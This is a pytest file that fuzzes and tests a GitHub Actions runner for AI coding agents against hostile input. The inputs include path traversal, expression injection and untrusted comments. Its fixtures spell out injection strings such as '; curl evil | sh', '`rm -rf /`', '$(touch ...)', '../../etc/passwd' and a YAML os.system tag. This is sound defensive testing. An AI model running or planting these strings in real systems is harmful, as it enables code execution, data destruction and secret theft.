"""Hostile and broken input: the parsers never crash or hang (fuzzed), and the dangerous cases (path
traversal, shell metacharacters, `${{ }}`, enormous lines, invalid UTF-8, symlinks out of the repository,
comments from strangers, bots and edits) end in a clear error or are ignored."""

from __future__ import annotations

import io
import json
import time
from pathlib import Path

import pytest

from runner.adapters.render.termreport import to_terminal
from hypothesis import given, settings
from hypothesis import strategies as st

from runner.drivers.actions.main import run_action
from runner.drivers.actions.env import normalise_plan_path
from runner.backends.codex.codexjson import parse_codex_stream
from runner.backends.claude_code.streamjson import parse_stream
from runner.core.errors import PlanRunnerError
from runner.adapters.github.events import GitHubContext, parse_event
from runner.core.planfile import diff_tracker, parse_plan, plan_id_from_path, with_tracker
from runner.core.replies import ReplyCommand, ReplyProblem, parse_reply
from tests.e2e_act import world as w
from tests.hypothesis_profiles import examples
from tests.reliability_world import (
    MUL_STEP,
    git,
    make_repo,
    result_json,
    run_session,
    script,
)
from tests.servers.github import GitHubServer

FUZZ = settings(max_examples=examples(ci=120, thorough=1000))

VALID_PLAN = """\
---
agent:
  backend: script
  script: s.yaml
gates:
  - name: tests
    run: python -m unittest
---
# Calc

## Stage 1: Arithmetic <!-- sessions: 2 -->
- [ ] 1.1 Multiplication
- [x] 1.2 Division <!-- verify: python -c 1 -->

## Stage 2: Docs
- [ ] 2.1 README BLOCKED: which language?
"""

HOSTILE = st.sampled_from([
    "${{ secrets.GITHUB_TOKEN }}", "$(touch /tmp/pwned)", "`rm -rf /`", "; curl evil | sh", "../../etc/passwd",
    "\x00", "\u202e", "\ufeff", "<!--", "-->", "---", "- [x] 9.9 ", "## Stage 7:", "\r\n", "\t", "::set-output name=a::b",
    "{{ 7*7 }}", "{% raw %}", "*" * 300, "[" * 50, "a: [", "&anchor", "*alias", "!!python/object:os.system", "é" * 40,
])
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=5),
    max_leaves=20)


def _mutate(text: str, data: st.DataObject) -> str:
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(text)))
        piece = data.draw(HOSTILE | st.text(max_size=20))
        if data.draw(st.booleans()):
            text = text[:at] + piece + text[at:]
        else:
            text = text[:at] + piece + text[at + data.draw(st.integers(0, 40)):]
    return text


# --- fuzzed parsers -------------------------------------------------------------------------------------------


@FUZZ
@given(st.data())
def test_plan_parser_and_tracker_diff_never_crash_on_mutated_plans(data):
    """Any mutation of a valid plan parses or raises PlanRunnerError listing problems; tracker diffs never crash."""
    base = parse_plan(VALID_PLAN, "plans/calc.md")
    text = _mutate(VALID_PLAN, data)
    try:
        plan = parse_plan(text, "plans/calc.md")
        assert plan.id == "calc"
    except PlanRunnerError as err:
        assert err.render().strip()
    try:
        head = with_tracker(base, text)  # the agent's version of the tracker, whatever it wrote
    except PlanRunnerError as err:
        assert err.render().strip()
    else:
        for flip in diff_tracker(base, head):
            assert base.checkpoint(flip.checkpoint_id) is not None


@FUZZ
@given(st.text(max_size=400))
def test_plan_parser_never_crashes_on_arbitrary_text(text):
    """Arbitrary text is a plan or a PlanRunnerError, never another exception."""
    try:
        parse_plan(text, "plans/x.md")
    except PlanRunnerError:
        pass


@FUZZ
@given(st.lists(JSON.map(json.dumps) | st.text(max_size=60), max_size=12), st.data())
def test_stream_parsers_never_crash_on_malformed_agent_output(lines, data):
    """Claude Code stream-json and Codex JSONL parsers take any lines: malformed ones are counted, not fatal."""
    typed = data.draw(st.lists(st.fixed_dictionaries(
        {"type": st.sampled_from(["system", "assistant", "user", "result", "rate_limit_event", "stream_event",
                                  "thread.started", "turn.completed", "turn.failed", "item.completed", "error"])},
        optional={"subtype": st.text(max_size=10), "message": JSON, "usage": JSON, "result": JSON, "is_error": JSON,
                  "item": JSON, "session_id": JSON, "thread_id": JSON, "api_error_status": JSON,
                  "rate_limit_info": JSON, "error": JSON}).map(json.dumps), max_size=8))
    mixed = lines + typed
    signals = parse_stream(mixed)
    assert signals.backend == "claude-code"
    parse_codex_stream(mixed)


@FUZZ
@given(st.text(max_size=300), HOSTILE)
def test_reply_parser_keeps_hostile_instructions_verbatim_and_never_crashes(prefix, hostile):
    """Any comment parses to a command, a problem or nothing; instructions are data, kept verbatim."""
    result = parse_reply(prefix)
    assert result is None or isinstance(result, (ReplyCommand, ReplyProblem))
    command = parse_reply(f"/plan-runner resume {hostile} and $(whoami)")
    if isinstance(command, ReplyCommand):
        assert "$(whoami)" in command.instructions


@FUZZ
@given(st.sampled_from(["issue_comment", "workflow_dispatch", "schedule", "push", ""]), JSON, st.data())
def test_event_payload_reader_gives_a_clear_error_for_any_payload(name, payload, data):
    """Any JSON payload for any event parses or raises PlanRunnerError naming the field."""
    shaped = data.draw(st.fixed_dictionaries({}, optional={
        "action": JSON, "comment": st.fixed_dictionaries({}, optional={"id": JSON, "body": JSON, "user": JSON}),
        "issue": st.fixed_dictionaries({}, optional={"number": JSON, "labels": JSON, "pull_request": JSON}),
        "inputs": JSON}))
    for candidate in (payload, shaped):
        try:
            parse_event(name, candidate)
        except PlanRunnerError as err:
            assert "payload" in err.what or "event" in err.what


def test_enormous_lines_parse_quickly():
    """A 4 MB line in a plan, a stream or a reply is handled in bounded time."""
    huge = "x" * 4_000_000
    started = time.monotonic()
    with pytest.raises(PlanRunnerError):
        parse_plan(VALID_PLAN.replace("# Calc", "# Calc\n" + huge + "\n## Stage 9 " + huge), "plans/calc.md")
    parse_plan(VALID_PLAN.replace("- [ ] 1.1 Multiplication", "- [ ] 1.1 Multiplication " + huge), "plans/calc.md")
    parse_stream([huge, json.dumps({"type": "assistant", "message": {"content": [{"type": "text", "text": huge}]}})])
    parse_codex_stream([huge])
    assert isinstance(parse_reply("/plan-runner resume " + huge), ReplyProblem)
    assert time.monotonic() - started < 20


# --- names: path traversal, shell metacharacters --------------------------------------------------------------


@pytest.mark.parametrize("raw", ["../plans/x.md", "/etc/passwd", "plans/../../x.md", "..\\..\\x.md", "", "  "])
def test_plan_inputs_that_escape_the_repository_are_refused(raw):
    """The action's plan input must be a repository-relative path without `..`."""
    with pytest.raises(PlanRunnerError, match="plan"):
        normalise_plan_path(raw)


@pytest.mark.parametrize("name", ["plans/$(touch pwned).md", "plans/a;rm -rf ~.md", "plans/`id`.md",
                                  "plans/${{ github.token }}.md", "plans/..md", "plans/%2e%2e.md"])
def test_plan_ids_from_hostile_file_names_are_inert(name):
    """A plan id derived from any file name holds only `[a-z0-9._-]`, never `..` or a slash."""
    plan_id = plan_id_from_path(name)
    assert all(c.isalnum() or c in "._-" for c in plan_id) and ".." not in plan_id and "/" not in plan_id


@pytest.mark.parametrize("branch", ["../../main", "a b", "x;rm -rf /", "$(id)", "refs/heads/../x", "-delete",
                                    "a..b", "x.lock", "@{u}", "plan\nrunner"])
def test_hostile_branch_names_in_the_front_matter_are_plan_errors(branch):
    """A work branch name git would not accept, or that could be read as an option, is a located plan error."""
    text = VALID_PLAN.replace("agent:", f"branch: {json.dumps(branch)}\nagent:", 1)
    with pytest.raises(PlanRunnerError) as err:
        parse_plan(text, "plans/calc.md")
    assert "branch" in err.value.render()


@pytest.mark.integration
def test_shell_and_expression_syntax_in_plan_text_is_never_evaluated(tmp_path):
    """`$(...)`, backticks and `${{ }}` in the plan's title, checkpoints and comments reach the agent's prompt and
    the report verbatim; nothing runs them."""
    marker = tmp_path / "pwned"
    repo = make_repo(tmp_path, script([{"say": "hello"}], [{"say": "hello"}], [{"say": "hello"}]))
    plan = repo / "plans" / "calc.md"
    hostile = f"$(touch {marker}) `touch {marker}` ${{{{ secrets.GITHUB_TOKEN }}}}"
    plan.write_text(plan.read_text().replace("# Calc", f"# Calc {hostile}").replace(
        "1.1 Multiplication", f"1.1 Multiplication {hostile}"))
    git(repo, "commit", "-qam", "hostile text")
    git(repo, "push", "-q", "origin", "main")
    for _ in range(3):
        out = result_json(run_session(repo))
        if out["status"] == "parked":
            break
    assert out["status"] == "parked"
    assert not marker.exists()
    transcripts = repo / ".git" / "plan-runner" / "calc" / "transcripts"
    prompts = [json.loads(line) for f in transcripts.glob("script-*.jsonl") for line in f.read_text().splitlines()]
    assert any(p.get("type") == "prompt" for p in prompts)
    report = to_terminal(Path(out["url"]).read_text())  # as a person reads it (the file escapes Markdown)
    assert "$(touch" in report and "${{ secrets.GITHUB_TOKEN }}" in report


@pytest.mark.integration
def test_a_plan_with_invalid_utf8_is_a_clear_error_or_parsed_with_replacements(tmp_path):
    """Invalid UTF-8 bytes in the committed plan never produce a traceback."""
    repo = make_repo(tmp_path, script([MUL_STEP]))
    plan = repo / "plans" / "calc.md"
    plan.write_bytes(plan.read_bytes().replace(b"# Calc", b"# Calc \xff\xfe\xc3("))
    git(repo, "commit", "-qam", "bytes")
    proc = run_session(repo)
    assert "Traceback" not in proc.stderr and proc.returncode in (0, 2, 3), proc.stderr


@pytest.mark.integration
def test_a_plan_symlinked_out_of_the_repository_is_refused_locally(tmp_path):
    """`plan-runner session plans/link.md` where the link points outside the repository: a clear error."""
    repo = make_repo(tmp_path, script([MUL_STEP]))
    outside = tmp_path / "outside.md"
    outside.write_text((repo / "plans" / "calc.md").read_text())
    (repo / "plans" / "link.md").symlink_to(outside)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    proc = run_session(repo, plan="plans/link.md")
    assert proc.returncode == 2 and "outside the repository" in proc.stderr and "Traceback" not in proc.stderr


def test_an_event_payload_with_invalid_utf8_is_a_clear_error(tmp_path):
    """GITHUB_EVENT_PATH holding bytes that are not UTF-8 (or not JSON) is a PlanRunnerError, not a crash."""
    for i, data in enumerate((b'{"action": "created\xff"}', b"\x00\x01not json", b"[" * 100_000)):
        path = tmp_path / f"event{i}.json"
        path.write_bytes(data)
        with pytest.raises(PlanRunnerError, match="payload"):
            GitHubContext.from_env({"GITHUB_REPOSITORY": "o/r", "GITHUB_EVENT_NAME": "issue_comment",
                                    "GITHUB_EVENT_PATH": str(path)})


# --- who may steer: strangers, bots, edits, forged issues --------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize("case", ["triage user", "read user claiming OWNER", "bot", "edited by maintainer",
                                  "forged issue", "pull request"])
def test_nobody_without_write_permission_steers_a_plan(tmp_path, case):
    """Comments from users below write, bots, edits, a look-alike issue a stranger opened, or a pull request
    change nothing: no ledger entry, no dispatch, the park issue stays open."""
    with GitHubServer() as srv:
        bare = w.make_remote(tmp_path, {"plans/greeter.md": w.PLAN, "plans/greeter.script.yaml":
                                        "sessions:\n  - - handoff: 'HUMAN: which?'\n"})
        srv.branches = w.BareBranches(bare)
        srv.set_permission("maintainer", "write")
        srv.set_permission("helper", "triage")
        srv.set_permission("stranger", "read")
        _job(tmp_path, srv, bare, "park", "workflow_dispatch", w.dispatch_event("plans/greeter.md"))
        (issue,) = [i for i in srv.issues.values() if "plan-runner" in i["labels"]]
        before = w.ledger(bare, "greeter")
        body, user, kw, target = "/plan-runner resume $(id) ${{ secrets.X }}", "maintainer", {}, issue
        if case == "triage user":
            user = "helper"
        elif case == "read user claiming OWNER":
            user = "stranger"
        elif case == "bot":
            kw = {"bot": True}
        elif case == "edited by maintainer":
            kw = {"action": "edited"}
        elif case == "forged issue":  # same marker, opened by a stranger, without the label only triage can set
            number = srv.add_issue("plan-runner: greeter needs a human", issue["body"], user="stranger")
            target = srv.issues[number]
        else:
            number = srv.add_issue("PR", issue["body"], user="stranger", labels=("plan-runner",))
            target = {**srv.issues[number]}
        event = w.comment_event(target, body, user, srv.add_comment(target["number"], body, user=user), **kw)
        event["comment"]["author_association"] = "OWNER"  # the payload's claim is never trusted
        if case == "pull request":
            event["issue"]["pull_request"] = {"url": "x"}
        outputs = _job(tmp_path, srv, bare, "reply", "issue_comment", event)
        assert outputs["outcome"] in ("refused", "ignored"), outputs
        assert w.ledger(bare, "greeter") == before and srv.dispatches == []
        assert issue["state"] == "open"


def _job(tmp_path: Path, srv: GitHubServer, bare: Path, name: str, event_name: str, event: dict) -> dict:
    ws = w.checkout(bare, tmp_path / name)
    mode = {"issue_comment": "reply"}.get(event_name, "session")
    env = {**w.job_env(srv, ws, tmp_path / f"runner-{name}", event_name, event), "PLAN_RUNNER_MODE": mode}
    run_action(env, out=io.StringIO())
    return w.parse_outputs(Path(env["GITHUB_OUTPUT"]).read_text())
